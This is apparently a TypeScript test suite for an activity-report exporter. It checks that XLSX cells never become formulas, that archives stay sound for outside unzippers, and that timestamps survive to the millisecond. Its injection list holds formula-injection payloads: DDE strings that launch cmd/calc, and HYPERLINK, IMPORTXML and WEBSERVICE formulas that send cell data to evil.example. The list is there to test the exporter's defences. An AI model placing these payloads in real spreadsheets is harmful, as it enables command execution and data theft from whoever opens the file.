import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { careColumns } from '../../src/domain/care.ts';
import { activity } from '../store/activities.ts';
import { Harness } from './harness.ts';
import {
  byLibreOffice,
  byOpenpyxl,
  cellsOf,
  entriesOf,
  saved,
  soundBy,
  unescaped,
  workbookByExcelJs,
} from './readers.ts';

const harness = new Harness();
after(() => harness[Symbol.asyncDispose]());

/** Known injections, and what a spreadsheet may take for something else than text. */
const injections = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '@SUM(1+1)*cmd|calc!A0',
  '+1+1',
  '-1+1',
  '-2+3+cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '{=1+1}',
  '=DDE("cmd";"/C calc";"x")',
  '%0A=1+1',
  '＝1+1',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '_x003D_1+1',
  '1e5',
  '00012',
  '2026-01-01',
  'TRUE',
  '#REF!',
  '12345678901234567890',
];
const injected = injections.flatMap((text, i) =>
  careColumns.map((name, j) => activity(i * 20 + j, { activityId: `${i * 20 + j}`, [name]: text })),
);
const tenant = harness.keep(injected);

test('no cell is a formula, in any reader, and every injection is the text it was', async (t) => {
  const report = await harness.report(await tenant, 'xlsx');
  const { bytes } = report.entries.get('Activity report.xlsx')!;
  const path = saved(bytes, `${report.path}.xlsx`);

  const parts = await entriesOf(bytes);
  const cells = cellsOf(parts.get('xl/worksheets/sheet1.xml')!.bytes);
  for (const [reference, cell] of cells) {
    assert.ok(!cell.names.includes('f'), reference);
    if (/^[=+\-@\t\n]|^_x000D_/.test(cell.text)) assert.equal(cell.style, '2', `${reference} has quotePrefix`);
  }
  for (const name of parts.keys()) assert.doesNotMatch(name, /external|macro|vba|hyperlink|drawing/i);

  const byExcelJs = (await workbookByExcelJs(bytes)).getWorksheet('Activities')!;
  byExcelJs.eachRow((row) => row.eachCell((cell) => assert.ok(!cell.formula, cell.address)));
  const wanted = injected.map((one) => careColumns.map((name) => one[name]));

  const byPython = byOpenpyxl(path);
  if (byPython === null) t.diagnostic('openpyxl is not here');
  else {
    const rows = byPython.Activities!.slice(1);
    assert.ok(rows.flat().every(([type]) => type !== 'f'));
    assert.deepEqual(
      rows.map((row) => row.slice(1).map(([, value]) => unescaped(String(value ?? '')))),
      wanted,
    );
    for (const [, value, quotePrefix] of rows.flat()) {
      if (/^[=+\-@\t\n]/.test(String(value))) assert.ok(quotePrefix, String(value));
    }
    assert.deepEqual(
      rows.map(([time]) => time![1]),
      injected.map(({ timeMs }) => new Date(timeMs).toISOString().slice(0, -1)),
    );
  }

  const byOffice = byLibreOffice(path, harness.directory);
  if (byOffice === null) t.diagnostic('LibreOffice is not here');
  else {
    const rows: string[][] = parse(byOffice.get('Activities')!, { relax_column_count: true });
    assert.deepEqual(
      rows.slice(1).map((row) => row.slice(1)),
      wanted,
    );
    assert.deepEqual(
      rows.slice(1).map(([time]) => time),
      injected.map(({ timeMs }) => new Date(timeMs).toISOString().slice(0, -1).replace('T', ' ')),
    );
  }
});

test('the archives are whole for unpackers that are not ours, stored and deflated as said, with fixed times', async (t) => {
  for (const format of ['xlsx', 'csv', 'jsonl', 'parquet'] as const) {
    const report = await harness.report(await tenant, format);
    const name = `Activity report.${format}`;
    assert.deepEqual([...report.entries.keys()], [name, 'manifest.json']);
    assert.equal(report.entries.get(name)!.method, format === 'xlsx' || format === 'parquet' ? 0 : 8);
    for (const { modified } of report.entries.values()) assert.equal(modified.getUTCFullYear(), 1980);
    for (const tool of ['unzip', '7z'] as const) {
      const paths = [report.path];
      if (format === 'xlsx') paths.push(saved(report.entries.get(name)!.bytes, `${report.path}.inner.xlsx`));
      for (const path of paths) {
        const sound = soundBy(tool, path);
        if (sound === null) t.diagnostic(`${tool} is not here`);
        else assert.ok(sound, `${tool} ${format}`);
      }
    }
  }
});

test('exceljs, openpyxl and the strict parser agree on times to the millisecond, from 1900 to 2299', async (t) => {
  const times = ['1900-01-01T00:00:00.000Z', '1900-02-28T23:59:59.999Z', '1900-03-01T00:00:00.001Z'];
  times.push('1969-12-31T23:59:59.999Z', '2026-11-23T17:00:00.123Z', '2026-12-31T23:59:59.999Z');
  times.push('2100-02-28T12:34:56.789Z', '2299-12-31T23:59:59.999Z');
  for (let i = 0; i < 200; i++) times.push(new Date(Date.UTC(2026, 2, 1) + i * 7_654_321 + i).toISOString());
  times.sort();
  const old = await harness.keep(times.map((time, i) => activity(i, { timeMs: Date.parse(time) })));
  const report = await harness.report(old, 'xlsx');
  const { bytes } = report.entries.get('Activity report.xlsx')!;
  const isDate = (time: string) => time >= '1900-03-01';
  const sheet = (await workbookByExcelJs(bytes)).getWorksheet('Activities')!;
  times.forEach((time, i) => {
    const { value } = sheet.getCell(i + 2, 1);
    assert.equal(value instanceof Date ? value.toISOString() : `${value}Z`, time);
    assert.equal(value instanceof Date, isDate(time), time);
  });
  const byPython = byOpenpyxl(saved(bytes, `${report.path}.xlsx`));
  if (byPython === null) return t.diagnostic('openpyxl is not here');
  assert.deepEqual(
    byPython.Activities!.slice(1).map(([time]) => [time![0], `${time![1]}Z`]),
    times.map((time) => [isDate(time) ? 'd' : 's', time]),
  );
});
